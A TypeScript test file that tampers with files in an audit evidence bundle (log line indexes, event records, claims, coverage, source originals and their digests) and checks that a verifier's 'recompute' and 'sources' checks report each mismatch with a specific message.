describe("recompute: what only the lines contradict", () => {
  test.each<[name: string, change: (payload: Payload) => void, says: RegExp]>([
    [
      "where the first record of a file stands",
      (it) => it.text("extract/lines/index.csv", (text) => text.replace(/^source-2\.txt,(\d+),/mu, "source-2.txt,1,")),
      /lines\/index\.csv line \d has its record at 1, and it is at \d+/u,
    ],
    [
      "a status, in all that states it",
      (it) => {
        it.text("extract/events.jsonl", (text) => text.replace('"status":403', '"status":401'));
        it.text("extract/events.csv", (text) => text.replace(",403,denied", ",401,denied"));
      },
      /events\.jsonl line \d: status is 401, worked out 403 from its original line/u,
    ],
    [
      "a line, in nothing else",
      (it) => it.text("extract/lines/source-1.txt", (text) => text.replace(",a2,groups,200,", ",a1,groups,200,")),
      /app is "a2", worked out "a1"/u,
    ],
    [
      "a verdict",
      (it) => it.text("extract/claims.json", (text) => text.replace('"contradicted"', '"supported"')),
      /claims\.json: \[0\]\.verdict is "supported", worked out "contradicted"/u,
    ],
    [
      "a total of people",
      (it) =>
        it.json("extract/findings.json", ({ rules }) => {
          rules[0].totals.entitled.developers = 9;
        }),
      /totals\.entitled\.developers is 9, worked out \d/u,
    ],
    [
      "a gap of the coverage",
      (it) =>
        it.json("extract/coverage.json", ({ coverage }) => {
          coverage[0].gaps.push({ from: "2018-04-04T00:00:00Z", to: "2018-04-05T00:00:00Z" });
        }),
      /coverage\.json: \[0\]\.gaps has 1 items, worked out 0/u,
    ],
    [
      "what would move the numbers, taken away",
      (it) => it.remove("extract/sensitivity.json"),
      /sensitivity\.json is not there/u,
    ],
    [
      "a line put in that no reader takes for a call",
      (it) => it.text("extract/lines/source-2.txt", (text) => `${text}admitted by D2\n`),
      /lines\/source-2\.txt holds at \d+ what is no record of a call of the bundle/u,
    ],
    [
      "a record made longer",
      (it) => {
        const index = fs.readFileSync(path.join(it.folder, "data/extract/lines/index.csv"), "utf8");
        const [, offset, length] = /^source-1\.txt,\d+,1,\d+,(\d+),(\d+)$/mu.exec(index) ?? [];
        it.text("extract/lines/index.csv", (text) => text.replace(`,${offset},${length}`, `,${offset},${length}0`));
        it.text("extract/events.csv", (text) => text.replace(`,${offset},${length},`, `,${offset},${length}0,`));
        it.text("extract/events.jsonl", (text) =>
          text.replace(`"offset":${offset},"length":${length}`, `"offset":${offset},"length":${length}0`),
        );
      },
      /lines\/index\.csv line 2 has a record of \d+0 bytes, and it has \d+/u,
    ],
    [
      "until when the rules judge, in the act too",
      (it) => {
        bundle((about) => (about.as_of = "2018-04-05T12:00:00Z"))(it);
        acts((all) => {
          all.at(-1).detail.as_of = "2018-04-05T12:00:00Z";
          return all;
        })(it);
      },
      /bundle\.json: as_of is 2018-04-05T12:00:00Z, worked out 20/u,
    ],
  ])("%s", async (name, change, says) => expectNamed([name, change, "recompute", says]));
});

describe("sources: what originals give", () => {
  const FIRST = "originals/1-first.csv";

  test("without them that is on trust, and said; with them, worked out", async () => {
    const sources = async (folder: string) => (await checksOf(folder)).checks.find(({ check }) => check === "sources");
    expect(await sources(root)).toMatchObject({ ok: null, how: "on-trust", code: "originals-none" });
    expect(await sources(await forged(withOriginals, () => {}))).toMatchObject({
      ok: true,
      how: "worked-out",
      detail: expect.stringMatching(/^2 originals .* of 2 sources, .*; 7 records stand/u),
    });
  });

  test.each<[name: string, change: (payload: Payload) => void, says: RegExp]>([
    [
      "an original changed",
      (it) => it.text(FIRST, (text) => text.replace("a1,groups", "a9,groups")),
      /data\/originals\/1-first\.csv has the SHA-256 [0-9a-f]{64}, and in sources\.json/u,
    ],
    [
      "an original changed, and its digest",
      (it) => {
        it.text(FIRST, (text) => text.replace("a1,groups", "a9,groups"));
        source((each) => {
          each.sha256 = it.sha256(FIRST);
        })(it);
      },
      /lines\/source-1\.txt: the record of line 3 is not what stands in the original at offset \d+ \(first\.csv\)/u,
    ],
    [
      "an original taken away",
      (it) => it.remove(FIRST),
      /data\/originals\/1-first\.csv, which bundle\.json names, is not there/u,
    ],
    [
      "an original put in",
      (it) => it.add("originals/9-x.csv", "x"),
      /data\/originals\/9-x\.csv is there, and bundle\.json names no such original/u,
    ],
    [
      "an original no longer named",
      (it) => {
        it.remove(FIRST);
        bundle((about) => {
          delete about.originals[1];
        })(it);
      },
      /bundle\.json names no original of source 1 \(first\.csv\)/u,
    ],
    [
      "a line",
      (it) => it.text("extract/lines/source-1.txt", (text) => text.replace("a1,groups", "a9,groups")),
      /the record of line 3 is not what stands/u,
    ],
    [
      "a table's head",
      (it) => it.text("extract/lines/source-1.txt", (text) => text.replace("app,api", "api,app")),
      /lines\/source-1\.txt does not begin as the original of source 1/u,
    ],
    [
      "where a line stood",
      (it) => it.text("extract/lines/index.csv", (text) => text.replace(/^(source-1\.txt,\d+,1),3,/mu, "$1,4,")),
      /the record of source 1 at offset \d+ is of line 3, not 4/u,
    ],
    [
      "hours moved within what sums allow",
      (it) => it.text("extract/hours.csv", (text) => text.replace("2018-04-10T10", "2018-04-10T12")),
      /hours\.csv line \d+ is .*2018-04-10T12:00:00Z.*, the originals give .*2018-04-10T10:00:00Z/u,
    ],
    [
      "a clock",
      source((each) => {
        each.clock.backward = 7;
      }),
      /source 1 \(first\.csv\): clock\.backward is 7, worked out 0/u,
    ],
    [
      "failed calls that count nowhere",
      bundle((about) => {
        about.apart[0].failed += 5;
      }),
      /bundle\.json: apart\[0\]\.failed is 5, worked out 0 from the originals/u,
    ],
    [
      "an event, in rows and lines alike",
      (it) => {
        it.text("extract/events.jsonl", (text) => text.replace('"status":403', '"status":404'));
        it.text("extract/events.csv", (text) => text.replace(",403,denied", ",404,denied"));
      },
      /events\.jsonl line \d: status is 404, worked out 403 from its original/u,
    ],
    [
      "what was left out",
      bundle((about) => {
        about.left_out += 3;
      }),
      /\d left out, the originals give 7/u,
    ],
    [
      "what a filter chooses",
      bundle((about) => {
        about.selected[0].events -= 1;
      }),
      /the filter level:attempted\+ .* says \d events, the originals give \d of them/u,
    ],
    [
      "a ledger",
      source((each) => {
        each.line_ledger.skipped = 0;
        each.line_ledger.events = 4;
      }),
      /sources\.json: source 1 \(first\.csv\): line_ledger\.events is 4, worked out 3/u,
    ],
  ])("%s", async (name, change, says) => expectNamed([name, change, "sources", says], withOriginals));
});
